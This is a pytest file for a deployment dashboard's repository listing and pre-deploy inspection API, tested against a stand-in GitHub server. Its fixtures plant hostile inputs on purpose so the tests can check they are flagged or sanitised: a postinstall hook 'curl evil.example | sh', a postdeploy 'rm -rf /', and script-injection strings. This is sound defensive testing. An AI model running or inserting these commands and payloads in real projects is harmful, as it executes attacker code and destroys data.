"""Repositories to pick from, and what one is before it is deployed."""

import json
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import httpx2
import pytest

from tests.source.git_repository import GitRepository
from tests.standins.github import GitHubApi, Repo, serving_api
from tests.web.conftest import Dashboard, dashboard_on

SAID = {
    "name": "Shop <script>alert(1)</script>",
    "description": "Sells\nthings",
    "success_url": "javascript:alert(1)",
    "env": {
        "SECRET_KEY": {"description": "Signs cookies", "generator": "secret"},
        "TITLE": {"description": "What it is called", "value": "My shop"},
        "STRIPE_KEY": {"description": "From the dashboard"},
        "EXTRA": {"required": False},
        "not a name": {"value": "x"},
    },
    "hooks": {"postcreate": {"commands": ["./migrate.sh"]}},
    "scripts": {"postdeploy": "rm -rf /"},
}
FILES: dict[str, str | bytes] = {
    "app.py": "import os\nfrom flask import Flask\n\napp = Flask(__name__)\nurl = os.environ['DATABASE_URL']\n",
    "requirements.txt": "flask\ngunicorn\n",
    "Procfile": "web: gunicorn app:app\nrelease: python migrate.py\n",
    "package.json": json.dumps({"name": "x", "scripts": {"postinstall": "curl evil.example | sh"}}),
    "app.json": json.dumps(SAID),
    ".github/workflows/ci.yml": "on: push\n",
}


class Tokens:
    """Who is signed in with GitHub; by default the operator, as Ada."""

    def __init__(self) -> None:
        self.known: dict[str, str] = {}

    async def __call__(self, user: str) -> str | None:
        return self.known.get(user)


@pytest.fixture
def work(tmp_path: Path) -> GitRepository:
    repository = GitRepository(tmp_path / "work")
    repository.commit(dict(FILES), "Sell things")
    return repository


@pytest.fixture
def api(tmp_path: Path, work: GitRepository) -> Iterator[GitHubApi]:
    (tmp_path / "served/ada").mkdir(parents=True)
    work.bare(tmp_path / "served/ada/shop")
    with serving_api(tmp_path / "served") as server:
        server.add_repo(Repo("ada/shop", private=True, language="Python", description="A shop"))
        yield server


@pytest.fixture
def tokens(api: GitHubApi) -> Tokens:
    found = Tokens()
    found.known["operator"] = api.token
    return found


@pytest.fixture
async def dashboard(tmp_path: Path, api: GitHubApi, tokens: Tokens) -> AsyncIterator[Dashboard]:
    async with dashboard_on(tmp_path / "house", github_url=api.url, tokens=tokens) as running:
        yield running


@pytest.fixture(autouse=True)
def folder(tmp_path: Path) -> None:
    (tmp_path / "house").mkdir()


@pytest.fixture
async def client(dashboard: Dashboard) -> AsyncIterator[httpx2.AsyncClient]:
    async with dashboard.client() as client:
        yield client


async def got(client: httpx2.AsyncClient, path: str, **params: str) -> Any:
    answer = await client.get(f"/api/v1{path}", params=params)
    assert answer.status_code == 200, answer.text
    return answer.json()


async def inspected(client: httpx2.AsyncClient, source: str = "ada/shop", **more: str) -> Any:
    answer = await client.post("/api/v1/inspections", json={"source": source, **more})
    assert answer.status_code == 200, answer.text
    return answer.json()


async def test_repositories_are_listed_recent_first_searched_and_paged(
    client: httpx2.AsyncClient, api: GitHubApi
) -> None:
    api.add_organisation("guild", 103, {"ada"})
    for number in range(120):
        api.add_repo(Repo(f"guild/tool{number:03d}", pushed_at=f"2025-01-01T{number // 60:02d}:{number % 60:02d}:00Z"))
    page = await got(client, "/repositories")
    assert page["items"][0] == {
        "slug": "ada/shop",
        "owner": "ada",
        "name": "shop",
        "private": True,
        "default_branch": "main",
        "pushed_at": "2026-11-01T12:00:00Z",
        "description": "A shop",
        "language": "Python",
    }
    assert page["items"][1]["slug"] == "guild/tool119"
    assert (page["owners"], page["stale"], page["note"]) == (["ada", "guild"], False, None)
    assert page["missing_url"].startswith(api.url)
    seen = [item["slug"] for item in page["items"]]
    while page["next_cursor"]:
        page = await got(client, "/repositories", cursor=page["next_cursor"])
        seen += [item["slug"] for item in page["items"]]
    assert len(seen) == len(set(seen)) == 121
    assert [i["slug"] for i in (await got(client, "/repositories", q="SHOP python"))["items"]] == ["ada/shop"]
    assert (await got(client, "/repositories", owner="Guild", q="tool11"))["items"][0]["slug"] == "guild/tool119"
    assert (await got(client, "/repositories", q="no such thing"))["items"] == []
    assert (await client.get("/api/v1/repositories", params={"cursor": "x"})).status_code == 422


async def test_without_a_sign_in_it_says_how_to_get_one(
    client: httpx2.AsyncClient, tokens: Tokens, api: GitHubApi
) -> None:
    tokens.known.clear()
    page = await got(client, "/repositories")
    assert page["items"] == []
    assert "Sign in with GitHub" in page["note"]
    assert api.seen == []


async def test_github_down_is_shown_and_nothing_breaks(client: httpx2.AsyncClient, api: GitHubApi) -> None:
    api.faults.down = True
    page = await got(client, "/repositories")
    assert (page["items"], page["stale"]) == ([], True)
    assert "GitHub cannot be asked" in page["note"]
    answer = await client.get("/api/v1/repositories/ada/shop/branches")
    assert (answer.status_code, answer.json()["code"]) == (503, "github_unavailable")


async def test_a_revoked_token_is_named(client: httpx2.AsyncClient, api: GitHubApi, tokens: Tokens) -> None:
    tokens.known["operator"] = "gho_revoked"
    answer = await client.get("/api/v1/repositories")
    assert (answer.status_code, answer.json()["code"]) == (422, "github_token_refused")
    assert "gho_revoked" not in answer.text


async def test_branches_begin_with_the_default_one(client: httpx2.AsyncClient, api: GitHubApi) -> None:
    api.git("ada/shop", "branch", "another", "main")
    page = await got(client, "/repositories/ada/shop/branches")
    assert [item["name"] for item in page["items"]] == ["main", "another"]


async def test_an_inspection_shows_what_consent_needs(
    client: httpx2.AsyncClient, work: GitRepository, api: GitHubApi
) -> None:
    found = await inspected(client)
    assert (found["owner"], found["own"], found["first_seen"], found["private"]) == ("ada", True, True, True)
    assert found["commit"]["sha"] == work.sha()
    assert found["commit"]["subject"] == "Sell things"
    assert found["commit"]["at"]
    assert found["plan"]["framework"] == "flask"
    assert found["dockerfile"].startswith("# ") or "FROM" in found["dockerfile"]
    assert any("pip" in command or "uv" in command for command in found["runs"])
    widens = {(power["file"], power["what"]) for power in found["widens"]}
    assert any(file == "package.json" and "postinstall" in what and "curl" in what for file, what in widens)
    assert any("release command" in what for _, what in widens)
    assert any(file == ".github/workflows/ci.yml" for file, _ in widens)
    assert found["hooks"] == ["postcreate: ./migrate.sh", "postdeploy: rm -rf /"]
    assert found["isolation"]["level"] == "L1"


async def test_app_json_asks_for_config_vars(client: httpx2.AsyncClient) -> None:
    first, second = await inspected(client), await inspected(client)
    env = {asked["name"]: asked for asked in first["env"]}
    assert "not a name" not in env
    assert env["TITLE"]["value"] == "My shop"
    assert env["STRIPE_KEY"] == {
        "name": "STRIPE_KEY",
        "description": "From the dashboard",
        "required": True,
        "value": "",
        "generated": False,
        "secret": True,
    }
    assert not env["EXTRA"]["required"]
    assert "DATABASE_URL" in env
    key = env["SECRET_KEY"]
    assert key["generated"]
    assert len(key["value"]) > 30
    assert key["value"] != next(asked["value"] for asked in second["env"] if asked["name"] == "SECRET_KEY")
    assert first["app"] == {
        "name": "Shop <script>alert(1)</script>",
        "description": "Sells things",
        "success_url": "",
    }


async def test_the_same_commit_is_not_analysed_twice(client: httpx2.AsyncClient, api: GitHubApi) -> None:
    await inspected(client)
    api.seen.clear()
    await inspected(client)
    assert not [seen for seen in api.seen if "/blobs/" in seen.path or "/trees/" in seen.path]


async def test_an_inspection_deploys_nothing_and_leaves_no_token(
    client: httpx2.AsyncClient, dashboard: Dashboard, api: GitHubApi, tmp_path: Path
) -> None:
    await inspected(client)
    async with dashboard.store.read() as transaction:
        assert await transaction.deployments.page() == []
    files = [path for path in (tmp_path / "house").rglob("*") if path.is_file()]
    assert not [path for path in files if api.token.encode() in path.read_bytes()]
    assert not [seen for seen in api.seen if api.token in seen.path]


async def test_nobody_inspects_what_they_cannot_read(
    client: httpx2.AsyncClient, tokens: Tokens, api: GitHubApi
) -> None:
    await inspected(client)
    api.add_account("bea", 102)
    tokens.known["operator"] = api.grant("bea", "repo")
    answer = await client.post("/api/v1/inspections", json={"source": "ada/shop"})
    assert (answer.status_code, answer.json()["code"]) == (422, "github_not_found")


async def test_folders_of_a_monorepo(client: httpx2.AsyncClient, api: GitHubApi, tmp_path: Path) -> None:
    mono = GitRepository(tmp_path / "mono")
    mono.commit(
        {
            "apps/web/package.json": json.dumps({"name": "web", "scripts": {"start": "node server.js"}}),
            "apps/web/server.js": "require('http').createServer().listen(process.env.PORT)\n",
            "apps/api/requirements.txt": "flask\n",
            "apps/api/app.py": "from flask import Flask\napp = Flask(__name__)\n",
        }
    )
    mono.bare(api.root / "ada/mono")
    api.add_repo(Repo("ada/mono"))
    page = await got(client, "/repositories/ada/mono/folders", ref="main")
    assert [item["dir"] for item in page["items"]] == ["apps/api", "apps/web"]
    assert "flask" in page["items"][0]["summary"]
    found = await inspected(client, "ada/mono")
    assert found["plan"]["reason"]
    assert [candidate["dir"] for candidate in found["candidates"]] == ["apps/api", "apps/web"]
    assert (await inspected(client, "ada/mono", dir="apps/api"))["plan"]["framework"] == "flask"
    answer = await client.post("/api/v1/inspections", json={"source": "ada/mono", "dir": "none"})
    assert answer.json()["code"] == "no_such_dir"


async def test_a_renamed_and_a_deleted_repository(client: httpx2.AsyncClient, api: GitHubApi) -> None:
    api.rename("ada/shop", "ada/store")
    assert (await inspected(client))["commit"]["subject"] == "Sell things"
    api.delete("ada/store")
    api.faults.renamed.clear()
    answer = await client.post("/api/v1/inspections", json={"source": "ada/store"})
    assert answer.json()["code"] == "github_not_found"
    assert answer.json()["fix"]
